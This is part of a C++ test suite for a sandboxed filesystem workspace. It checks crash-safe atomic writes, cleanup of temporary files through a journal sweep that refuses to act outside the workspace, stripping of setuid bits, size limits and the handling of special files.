  // No temporary names are left behind by successful writes.
  auto listing = root.List(".");
  ASSERT_TRUE(listing);
  ASSERT_EQ(listing->entries.size(), 1u);
  EXPECT_EQ(listing->entries[0].name, "big");
}

// A writer killed at any instant leaves old or new content under the name, and, once its
// supervisor has swept the pending-writes journal, nothing else: not even a complete temporary
// (the instant between link and rename). Big writes land kills mid-data; small ones land them
// near the link and the rename.
void KillWritersAndSweep(const std::string& big_or_small) {
  TempDir ws;
  auto journal = PendingWrites::CreateJournal();
  ASSERT_TRUE(journal);
  PendingWrites pending(UniqueFd(::dup(journal->Get())));
  WorkspaceOptions options;
  options.max_read_bytes = options.max_write_bytes = 64u << 20;
  options.pending_writes = &pending;
  WorkspaceRoot root = OpenRoot(ws.path(), options);
  const std::string old_content = "OLD";
  const std::size_t size = big_or_small == "big" ? (32u << 20) : 512;
  const std::string x(size, 'x'), y(size, 'y');
  ASSERT_TRUE(root.Write("target", old_content));
  MkDir(ws / "sub");
  std::mt19937 rng(12345);
  int killed = 0;
  for (int round = 0; round < 24; ++round) {
    const pid_t pid = ::fork();
    ASSERT_GE(pid, 0);
    if (pid == 0) {
      // Child: rewrite the files forever until killed.
      for (int i = 0;; ++i) {
        if (!root.Write(i % 3 == 0 ? "sub/t" : "target", i % 2 ? x : y)) ::_exit(3);
      }
    }
    std::this_thread::sleep_for(std::chrono::microseconds(2000 + rng() % 40000));
    ASSERT_EQ(::kill(pid, SIGKILL), 0);
    int status = 0;
    ASSERT_EQ(::waitpid(pid, &status, 0), pid);
    ASSERT_TRUE(WIFSIGNALED(status)) << "writer exited early with " << status;
    ++killed;
    auto swept = SweepPendingWrites(journal->Get(), ws.path());
    ASSERT_TRUE(swept) << swept.error().ToString();
    auto r = root.Read("target");
    ASSERT_TRUE(r) << r.error().ToString();
    EXPECT_TRUE(*r == old_content || Uniform(*r, 'x', x.size()) || Uniform(*r, 'y', y.size()))
        << "torn file of " << r->size() << " bytes after round " << round;
    for (const std::string dir : {".", "sub"}) {
      auto listing = root.List(dir);
      ASSERT_TRUE(listing);
      for (const auto& e : listing->entries) {
        EXPECT_TRUE(e.name == "target" || e.name == "sub" || e.name == "t")
            << "left behind after round " << round << ": " << dir << "/" << e.name;
      }
    }
  }
  EXPECT_EQ(killed, 24);
}

TEST(T1FsWorkspace, KillingABigWriterLeavesOldOrNewContentAndNoTemporary) {
  KillWritersAndSweep("big");
}

TEST(T1FsWorkspace, KillingASmallWriterLeavesOldOrNewContentAndNoTemporary) {
  KillWritersAndSweep("small");
}

// The instant between link and rename, caught: the writer is traced and killed on entry to
// the rename, while its temporary name exists. The name was recorded before it existed, so the
// sweep removes it; without the journal it would stay in the user's directory.
TEST(T1FsWorkspace, AWriterKilledBetweenLinkAndRenameLeavesNoTemporaryAfterTheSweep) {
  TempDir ws;
  auto journal = PendingWrites::CreateJournal();
  ASSERT_TRUE(journal);
  PendingWrites pending(UniqueFd(::dup(journal->Get())));
  WorkspaceOptions options;
  options.pending_writes = &pending;
  WorkspaceRoot root = OpenRoot(ws.path(), options);
  MkDir(ws / "sub");
  for (const std::string target : {"target", "sub/target"}) {
    ASSERT_TRUE(root.Write(target, "OLD"));
    const pid_t pid = ::fork();
    ASSERT_GE(pid, 0);
    if (pid == 0) {
      ::ptrace(PTRACE_TRACEME, 0, nullptr, nullptr);
      ::raise(SIGSTOP);
      ::_exit(root.Write(target, "NEW") ? 0 : 3);
    }
    int status = 0;
    ASSERT_EQ(::waitpid(pid, &status, 0), pid);
    ASSERT_TRUE(WIFSTOPPED(status));
    ASSERT_EQ(::ptrace(PTRACE_SETOPTIONS, pid, nullptr, PTRACE_O_TRACESYSGOOD | PTRACE_O_EXITKILL),
              0);
    bool at_rename = false;
    while (!at_rename) {
      ASSERT_EQ(::ptrace(PTRACE_SYSCALL, pid, nullptr, nullptr), 0);
      ASSERT_EQ(::waitpid(pid, &status, 0), pid);
      ASSERT_TRUE(WIFSTOPPED(status)) << "the writer finished without renaming: " << status;
      if (WSTOPSIG(status) != (SIGTRAP | 0x80)) continue;
      __ptrace_syscall_info info{};
      ASSERT_GT(::ptrace(PTRACE_GET_SYSCALL_INFO, pid, sizeof info, &info), 0);
      if (info.op != PTRACE_SYSCALL_INFO_ENTRY) continue;
#ifdef SYS_renameat
      at_rename = info.entry.nr == SYS_renameat;
#endif
      at_rename = at_rename || info.entry.nr == SYS_renameat2;
    }
    ASSERT_EQ(::kill(pid, SIGKILL), 0);
    ASSERT_EQ(::waitpid(pid, &status, 0), pid);
    const std::string dir = target == "target" ? "." : "sub";
    auto temporaries = [&] {
      int n = 0;
      auto listing = root.List(dir);
      if (listing) {
        for (const auto& e : listing->entries) n += IsWorkspaceTempName(e.name) ? 1 : 0;
      }
      return n;
    };
    ASSERT_EQ(temporaries(), 1) << "the writer was not stopped with its temporary named";
    EXPECT_EQ(Slurp(ws / target), "OLD");
    auto swept = SweepPendingWrites(journal->Get(), ws.path());
    ASSERT_TRUE(swept) << swept.error().ToString();
    EXPECT_EQ(*swept, 1u);
    EXPECT_EQ(temporaries(), 0) << target;
    EXPECT_EQ(Slurp(ws / target), "OLD");
  }
}

// The sweep trusts nothing the journal says: it removes only a regular file with the temporary
// pattern, found beneath the workspace without following a symlink. A writer that scribbles on
// the journal can make it remove nothing else.
TEST(T1FsWorkspace, TheSweepRemovesOnlyTemporariesBeneathTheWorkspace) {
  TempDir ws, outside;
  const std::string temp = ".anvil-tmp-0123456789abcdef";
  MkDir(ws / "d");
  MkDir(ws / "d/.anvil-tmp-00000000000000aa");  // a directory with the pattern
  Put(ws / "d" + "/" + temp, "leftover");       // benign: a real leftover
  Put(ws / "keep.c", "source");
  Put(outside / temp, "outside");
  SymLink(outside.path(), ws / "link");
  ASSERT_EQ(::mkfifo((ws / ".anvil-tmp-00000000000000bb").c_str(), 0600), 0);
  auto journal = PendingWrites::CreateJournal();
  ASSERT_TRUE(journal);
  {
    PendingWrites pending(UniqueFd(::dup(journal->Get())));
    std::vector<PendingWrites::Slot> slots;
    for (const std::string& path : std::vector<std::string>{
             "d/" + temp, "keep.c", "../" + outside.path().substr(5) + "/" + temp, "link/" + temp,
             outside.path() + "/" + temp, "d/.anvil-tmp-00000000000000aa",
             ".anvil-tmp-00000000000000bb", "d/./" + temp, ".anvil-tmp-0123456789ABCDEF"}) {
      slots.push_back(pending.Claim());
      ASSERT_TRUE(slots.back().Set(path));
    }
    // The writer dies with every slot set: a moved-from slot would clear it, so leak them.
    for (auto& slot : slots) new PendingWrites::Slot(std::move(slot));
  }
  auto swept = SweepPendingWrites(journal->Get(), ws.path());
  ASSERT_TRUE(swept) << swept.error().ToString();
  EXPECT_EQ(*swept, 1u);
  EXPECT_EQ(Slurp(ws / "d" + "/" + temp), "<missing>");
  EXPECT_EQ(Slurp(ws / "keep.c"), "source");
  EXPECT_EQ(Slurp(outside / temp), "outside");
  struct stat st {};
  EXPECT_EQ(::lstat((ws / "d/.anvil-tmp-00000000000000aa").c_str(), &st), 0);
  EXPECT_EQ(::lstat((ws / ".anvil-tmp-00000000000000bb").c_str(), &st), 0);
  // The journal is empty afterwards: a second sweep finds nothing.
  auto again = SweepPendingWrites(journal->Get(), ws.path());
  ASSERT_TRUE(again);
  EXPECT_EQ(*again, 0u);
}

TEST(T1FsWorkspace, WriteKeepsPermissionBitsButNeverSetId) {
  TempDir ws;
  Put(ws / "script.sh", "#!/bin/sh\n");
  ASSERT_EQ(::chmod((ws / "script.sh").c_str(), 04755), 0);
  WorkspaceRoot root = OpenRoot(ws.path());
  ASSERT_TRUE(root.Write("script.sh", "#!/bin/sh\necho hi\n"));
  struct stat st {};
  ASSERT_EQ(::stat((ws / "script.sh").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 07777, 0755u);
}

// ---------------------------------------------------------------------------------------------
// Size caps: "limit:", decided before work is done.

TEST(T1FsWorkspace, SizeCapsGiveLimitErrors) {
  TempDir ws;
  WorkspaceOptions caps;
  caps.max_read_bytes = 1024;
  caps.max_write_bytes = 1024;
  caps.max_list_entries = 10;
  Put(ws / "at_cap", std::string(1024, 'r'));
  Put(ws / "over_cap", std::string(1025, 'r'));
  MkDir(ws / "ten");
  MkDir(ws / "eleven");
  for (int i = 0; i < 10; ++i) Put(ws / ("ten/" + std::to_string(i)), "");
  for (int i = 0; i < 11; ++i) Put(ws / ("eleven/" + std::to_string(i)), "");
  WorkspaceRoot root = OpenRoot(ws.path(), caps);
  EXPECT_EQ(Describe(root.Read("at_cap")), "ok");
  EXPECT_EQ(Describe(root.Read("over_cap")), "limit: file over 1024 bytes: over_cap");
  EXPECT_EQ(Describe(root.Write("w_at_cap", std::string(1024, 'w'))), "ok");
  EXPECT_EQ(Describe(root.Write("w_over_cap", std::string(1025, 'w'))),
            "limit: write over 1024 bytes: w_over_cap");
  EXPECT_EQ(Slurp(ws / "w_over_cap"), "<missing>");
  auto ten = root.List("ten");
  ASSERT_TRUE(ten);
  EXPECT_EQ(ten->entries.size(), 10u);
  EXPECT_EQ(Describe(root.List("eleven")), "limit: directory has more than 10 entries: eleven");
}

TEST(T1FsWorkspace, ReadCapHoldsWhenTheFileGrowsAfterItIsOpened) {
  // /proc/self/... files report size 0 and then produce more: the cap is on bytes actually read.
  WorkspaceOptions caps;
  caps.max_read_bytes = 16;
  WorkspaceRoot proc = OpenRoot("/proc/self", caps);
  EXPECT_EQ(CodeOf(proc.Read("status")), "limit");
}

// ---------------------------------------------------------------------------------------------
// Special files and the remaining operations.

TEST(T1FsWorkspace, FifoAndDirectoryAreNotReadAsFiles) {
  Scene s;
  ASSERT_EQ(::mkfifo((s.ws / "pipe").c_str(), 0644), 0);
  WorkspaceRoot root = OpenRoot(s.ws.path());
  // Opening a FIFO without O_NONBLOCK would hang this thread until a writer shows up.
  EXPECT_EQ(Describe(root.Read("pipe")), "invalid: not a regular file: pipe");
  EXPECT_EQ(Describe(root.Read("sub")), "invalid: is a directory: sub");
  EXPECT_EQ(CodeOf(root.Write("pipe", "x")), "invalid");
  EXPECT_EQ(CodeOf(root.Write("sub", "x")), "invalid");
  EXPECT_EQ(root.Stat("pipe")->type, FileType::kOther);
}

TEST(T1FsWorkspace, ListStatMkdirRemoveRenameBehave) {
  Scene s;
  SymLink(s.secret_path, s.ws / "abs_link");
  WorkspaceRoot root = OpenRoot(s.ws.path());

  auto listing = root.List(".");
  ASSERT_TRUE(listing) << listing.error().ToString();
  std::vector<std::pair<std::string, std::string>> got;
  for (const auto& e : listing->entries) got.emplace_back(e.name, ToString(e.type));
  EXPECT_EQ(got, (std::vector<std::pair<std::string, std::string>>{
                     {"abs_link", "symlink"}, {"hello.txt", "file"}, {"sub", "dir"}}));
  EXPECT_EQ(listing->omitted, 0u);
  EXPECT_EQ(Describe(root.List("hello.txt")),
            "invalid: a component of the path is not a "
            "directory: hello.txt");
  EXPECT_EQ(Describe(root.List("nope")), "not_found: nope");

  auto st = root.Stat("hello.txt");
  ASSERT_TRUE(st);
  EXPECT_EQ(st->type, FileType::kFile);
  EXPECT_EQ(st->size, 6u);
  EXPECT_GT(st->mtime_sec, 0);
  EXPECT_EQ(root.Stat(".")->type, FileType::kDir);
  EXPECT_EQ(Describe(root.Stat("missing.c")), "not_found: missing.c");
  EXPECT_EQ(Describe(root.Read("src/missing.c")), "not_found: src/missing.c");

  EXPECT_EQ(Describe(root.Mkdir("newdir")), "ok");
  EXPECT_EQ(Describe(root.Mkdir("newdir")), "invalid: already exists: newdir");
  EXPECT_EQ(Describe(root.Mkdir("no/such/parent")), "not_found: no/such/parent");
  EXPECT_EQ(Describe(root.Write("newdir/f", "1")), "ok");
  EXPECT_EQ(Describe(root.Remove("newdir")), "invalid: directory not empty: newdir");
  EXPECT_EQ(Describe(root.Rename("newdir/f", "hello.txt")),
            "invalid: destination exists: newdir/f -> hello.txt");
  EXPECT_EQ(Slurp(s.ws / "hello.txt"), "INSIDE");
  EXPECT_EQ(Describe(root.Rename("newdir/f", "hello.txt", /*replace=*/true)), "ok");
  EXPECT_EQ(Slurp(s.ws / "hello.txt"), "1");
  EXPECT_EQ(Describe(root.Rename("missing", "x")), "not_found: missing");
  EXPECT_EQ(Describe(root.Rename("sub", "sub/inner")).rfind("invalid: cannot rename", 0), 0u);
  EXPECT_EQ(Describe(root.Remove("newdir")), "ok");
  EXPECT_EQ(Describe(root.Remove("newdir")), "not_found: newdir");
  EXPECT_EQ(Describe(root.Remove(".")),
            "invalid: the workspace root itself is not a valid "
            "target: .");
  EXPECT_EQ(CodeOf(root.Write(".", "x")), "invalid");
  EXPECT_EQ(CodeOf(root.Rename(".", "x")), "invalid");
}

TEST(T1FsWorkspace, UnprivilegedWriterUsesTheProcFallbackForTmpfileLinking) {
  if (::geteuid() != 0) GTEST_SKIP() << "needs root to drop to another uid";
  TempDir ws;
  ASSERT_EQ(::chown(ws.path().c_str(), 65534, 65534), 0);
  const pid_t pid = ::fork();
  ASSERT_GE(pid, 0);
  if (pid == 0) {
    // linkat(AT_EMPTY_PATH) needs CAP_DAC_READ_SEARCH, which an unprivileged gateway lacks.
    if (::setgid(65534) != 0 || ::setuid(65534) != 0) ::_exit(10);
    auto root = WorkspaceRoot::Open(ws.path());
    if (!root) ::_exit(11);
    if (!root->Write("f", "unprivileged")) ::_exit(12);
    auto back = root->Read("f");
    ::_exit(back && *back == "unprivileged" ? 0 : 13);
  }
  int status = 0;
  ASSERT_EQ(::waitpid(pid, &status, 0), pid);
  ASSERT_TRUE(WIFEXITED(status));
  EXPECT_EQ(WEXITSTATUS(status), 0);
  EXPECT_EQ(Slurp(ws / "f"), "unprivileged");
}

}  // namespace
}  // namespace t1_fs_workspace_test
}  // namespace anvil
